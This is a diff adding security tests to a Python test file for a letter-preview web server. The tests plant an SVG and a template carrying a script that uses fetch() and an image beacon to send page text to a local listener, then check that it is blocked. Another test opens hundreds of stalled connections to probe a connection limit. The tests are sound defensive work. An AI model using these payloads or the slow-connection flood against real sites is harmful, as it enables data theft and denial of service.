@@ -2,18 +2,21 @@
 
 from __future__ import annotations
 
+import http.server
 import io
 import json
 import signal
+import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.error
 import urllib.request
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import pytest
 from PIL import Image
@@ -24,7 +27,7 @@ from selenium.webdriver.support.ui import WebDriverWait
 
 from campaign.compose import page_geometry
 from campaign.errors import CampaignError
-from campaign.preview import ASSETS, Preview, inject
+from campaign.preview import ASSETS, MAX_CONNECTIONS, Preview, inject
 from campaign.watching import Watcher
 from campaign.workspace import Workspace
 
@@ -673,3 +676,120 @@ def test_a_signature_image_shows_in_the_page(minimal: Path, browser: webdriver.C
         assert b"file:" not in preview.page.html
     finally:
         preview.shutdown()
+
+
+# --- Attacks: a hostile template or picture in the letter folder --------------------
+
+
+class _Listener(http.server.BaseHTTPRequestHandler):
+    """Records every request: what a leaked page would send its text to."""
+
+    heard: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        self.heard.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    do_POST = do_GET
+
+    def log_message(self, format: str, *args: Any) -> None:
+        """Quiet."""
+
+
+def test_a_script_in_a_framed_svg_or_a_template_does_not_run(
+    minimal: Path, browser: webdriver.Chrome
+) -> None:
+    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
+    threading.Thread(target=listener.serve_forever, daemon=True).start()
+    leak = f"http://127.0.0.1:{listener.server_address[1]}/"
+    steal = (
+        "var d = (window.parent || window).document; d.documentElement.dataset.pwned = '1';"
+        f"fetch('{leak}' + encodeURIComponent(d.body.innerText.slice(0, 50)), "
+        "{mode: 'no-cors'}); new Image().src = '" + leak + "img';"
+    )
+    folder = minimal / "letters" / "test"
+    (folder / "evil.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+        f"<script>{steal}</script></svg>"
+    )
+    template = minimal / "templates" / "joint-letter" / "letter.html.j2"
+    template.parent.mkdir(parents=True)
+    template.write_text(
+        '{% extends "builtin/joint-letter/letter.html.j2" %}\n'
+        '{% block marks %}<iframe src="evil.svg"></iframe><object data="evil.svg"></object>'
+        f"<script>{steal}</script>{{% endblock %}}\n"
+    )
+    preview = Preview(Workspace(minimal), "test", log=lambda _line: None)
+    try:
+        open_page(browser, preview.start(0))  # the preview's own script runs
+        assert browser.find_elements(By.CSS_SELECTOR, "iframe[src='evil.svg']")
+        # Give a script every chance to run: the frame's document is loaded.
+        WebDriverWait(browser, WAIT).until(
+            lambda d: d.execute_script(
+                # A sandboxed frame is of another origin: reading it throws once it loaded.
+                "var f = document.querySelector('iframe'); "
+                "try { return f.contentWindow.location.href !== 'about:blank'; } "
+                "catch (e) { return true; }"
+            )
+        )
+        time.sleep(1)
+        assert browser.execute_script("return document.documentElement.dataset.pwned") is None
+        assert _Listener.heard == []
+    finally:
+        preview.shutdown()
+        listener.shutdown()
+
+
+def _headers(preview: Preview, path: str) -> dict[str, str]:
+    try:
+        with urllib.request.urlopen(preview.url + path.lstrip("/"), timeout=10) as response:
+            return dict(response.headers)
+    except urllib.error.HTTPError as exc:
+        return dict(exc.headers)
+
+
+def test_every_response_carries_a_content_security_policy(started: Preview, minimal: Path) -> None:
+    (minimal / "letters" / "test" / "sig.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+    )
+    port = started.url.split(":")[2].rstrip("/")
+    script = (
+        f"http://127.0.0.1:{port}/_preview/preview.js http://localhost:{port}/_preview/preview.js"
+    )
+    assert _headers(started, "/")["Content-Security-Policy"] == (
+        f"default-src 'none'; script-src {script}; style-src 'self' 'unsafe-inline'; "
+        "img-src 'self' data:; font-src 'self' data:; connect-src 'self'; frame-src 'self'; "
+        "base-uri 'self'; form-action 'none'; frame-ancestors 'self'"
+    )
+    sandboxed = (
+        "default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:; "
+        "font-src 'self' data:; sandbox; frame-ancestors 'self'"
+    )
+    svg = _headers(started, "/letter/sig.svg")
+    assert (svg["Content-Type"], svg["Content-Security-Policy"]) == ("image/svg+xml", sandboxed)
+    for path in ("/version", "/_preview/preview.js", "/_preview/preview.css", "/nosuch"):
+        assert _headers(started, path)["Content-Security-Policy"] == sandboxed, path
+
+
+def test_slow_connections_do_not_take_a_thread_each(started: Preview) -> None:
+    before = threading.active_count()
+    port = int(started.url.split(":")[2].rstrip("/"))
+    slow = [socket.create_connection(("127.0.0.1", port)) for _ in range(300)]
+    try:
+        for connection in slow[:50]:
+            connection.sendall(b"GET / HTTP/1.1\r\n")  # and never the rest
+        time.sleep(1)  # the server accepts what it will
+        assert threading.active_count() - before <= MAX_CONNECTIONS
+    finally:
+        for connection in slow:
+            connection.close()
+    # The places free up as the connections close: the page is served again.
+    deadline = time.monotonic() + 30  # a generous bound, not a timing
+    while True:
+        try:
+            assert fetch(started, "/")[0] == 200
+            break
+        except (urllib.error.URLError, ConnectionError, AssertionError):
+            assert time.monotonic() < deadline, "the server never served again"
+            time.sleep(0.2)
